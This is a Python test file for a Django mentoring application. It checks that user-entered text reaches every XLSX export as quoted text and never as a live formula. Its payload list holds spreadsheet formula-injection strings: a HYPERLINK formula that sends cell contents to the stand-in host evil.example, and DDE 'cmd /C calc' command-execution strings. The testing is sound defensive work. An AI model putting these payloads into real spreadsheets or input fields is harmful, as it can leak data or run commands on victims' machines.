"""Defect 1 of issue 13: what a person typed reaches every XLSX export as text, never as a formula.

Payloads arrive through the real paths: the person form, the CSV import (column «Предмет»), an anonymous
respondent's answer on /q/<token>/ mapped to the mentor's subject, the roadmap import preview's corrections.
"""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from nastavnik.core.xlsx import FORMULA_PREFIXES, safe_cell
from nastavnik.participants.models import MentorProfile, Participant
from nastavnik.questionnaires.models import Invitation
from tests.builders import make_mentee, make_mentor, questions, simple_questionnaire
from tests.roadmaps.roadmap_builders import SCHOOL_5

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Открыть")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _var_dir(settings, tmp_path):
    settings.VAR_DIR = tmp_path / "var"


def formula_free(content: bytes) -> list[str]:
    """All text cells of the workbook, after checking that no cell is a formula and that every
    formula-like text carries Excel's quote prefix."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(content))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_PREFIXES):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def body(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def contains(texts: list[str], payload: str) -> bool:
    """openpyxl reads a cell's "\r" back as "\n" on some paths: compare with line ends normalised."""
    normal = payload.replace("\r", "\n")
    return any(payload in t or normal in t.replace("\r", "\n") for t in texts)


@pytest.mark.parametrize("payload", PAYLOADS[:4])
def test_subject_typed_in_the_person_form_is_text_in_both_bases_and_the_register(
    payload, organization, curator, login
):
    client = login(curator)
    response = client.post(
        reverse("participants:person_add", args=[organization.slug]),
        {
            "last_name": "Ахмедов",
            "first_name": "Руслан",
            "birth_date": "2001-05-12",
            "category": "young_specialist",
            "subject": payload,
            "experience_years": "1",
            "as_mentee": "on",
            "as_mentor": "on",
        },
    )
    assert response.status_code == 302
    MentorProfile.objects.update(status=MentorProfile.Status.ACTIVE)
    for name in ("mentees_export", "mentors_export", "register_export"):
        response = client.get(reverse(f"participants:{name}", args=[organization.slug]))
        assert response.status_code == 200, name
        assert payload in formula_free(body(response)), name


def test_subject_from_a_csv_import_is_text_in_the_export(organization, curator, login):
    client = login(curator)
    text = "ФИО;Дата рождения;Класс;Предмет\n" + "".join(
        f"Петров{'абвгде'[i]} Пётр;17.05.2012;7Б;{p}\n" for i, p in enumerate(PAYLOADS[:4])
    )
    response = client.post(
        reverse("participants:import", args=[organization.slug]),
        {"file": SimpleUploadedFile("список.csv", text.encode()), "default_role": "mentee"},
    )
    assert response.status_code == 302
    mapping = {"action": "import", "col_0": "full_name", "col_1": "birth_date", "col_2": "group"}
    response = client.post(response["Location"], {**mapping, "col_3": "subject"})
    assert response.status_code == 302
    assert Participant.objects.filter(organization=organization).count() == 4
    response = client.get(reverse("participants:mentees_export", args=[organization.slug]))
    texts = formula_free(body(response))
    for payload in PAYLOADS[:4]:
        assert payload in texts


def test_an_anonymous_answer_mapped_to_the_subject_is_text_in_the_mentors_export_and_the_results(
    client, organization, curator, login
):
    mentor = make_mentor(organization)
    questionnaire = simple_questionnaire(
        organization, ("short_text", {"text": "Ваш предмет", "maps_to": "participant.subject"})
    )
    invitation = Invitation.objects.create(
        questionnaire=questionnaire, organization=organization, participant=mentor.participant
    )
    (question,) = questions(questionnaire)
    payload = PAYLOADS[0]
    response = client.post(
        reverse("questionnaires:respond", args=[invitation.token]),
        {question.field_name: payload, "action": "submit"},
    )
    assert response.status_code == 302
    mentor.participant.refresh_from_db()
    assert mentor.participant.subject == payload
    staff = login(curator)
    response = staff.get(reverse("participants:mentors_export", args=[organization.slug]))
    assert payload in formula_free(body(response))
    response = staff.get(reverse("questionnaires:results_xlsx", args=[organization.slug, questionnaire.pk]))
    content = body(response)
    assert payload in formula_free(content)


def test_roadmap_texts_corrected_in_the_import_preview_are_text_in_the_export(organization, curator, login):
    from tests.roadmaps.test_roadmap_import_page import preview_data, upload

    client = login(curator)
    url = upload(client, organization, "карта.txt", SCHOOL_5.read_bytes())["Location"]
    data = preview_data(client, url)
    data["form-0-title"] = PAYLOADS[1]  # a stage
    data["form-1-title"] = PAYLOADS[0]  # an activity: title, responsible, result
    data["form-1-responsible"] = PAYLOADS[3]
    data["form-1-result"] = PAYLOADS[2]
    response = client.post(url, data)
    assert response.status_code == 302
    roadmap_id = int(response["Location"].rsplit("=", 1)[1])
    response = client.get(reverse("roadmaps:export", args=[organization.slug, roadmap_id, "xlsx"]))
    content = body(response)
    texts = formula_free(content)
    for payload in PAYLOADS[:4]:
        assert any(payload in t for t in texts), payload


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_keeps_the_value_and_neutralises_every_prefix(payload):
    from openpyxl import Workbook

    workbook = Workbook()
    cell = safe_cell(workbook.active["A1"], payload)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload, "s", True)
    buffer = io.BytesIO()
    workbook.save(buffer)
    assert contains(formula_free(buffer.getvalue()), payload)
    plain = safe_cell(workbook.active["A2"], "Математика")
    assert (plain.data_type, plain.quotePrefix) == ("s", False)
    assert safe_cell(workbook.active["A3"], 12).data_type == "n"


def test_questionnaire_results_export_still_neutralises(organization, curator, login):
    mentee = make_mentee(organization)
    questionnaire = simple_questionnaire(organization, ("long_text", {"text": "Ожидания"}))
    invitation = Invitation.objects.create(
        questionnaire=questionnaire, organization=organization, participant=mentee.participant
    )
    (question,) = questions(questionnaire)
    response = login(curator).post(
        reverse("questionnaires:respond", args=[invitation.token]),
        {question.field_name: PAYLOADS[2], "action": "submit"},
    )
    response = login(curator).get(
        reverse("questionnaires:results_xlsx", args=[organization.slug, questionnaire.pk])
    )
    content = body(response)
    assert PAYLOADS[2] in formula_free(content)
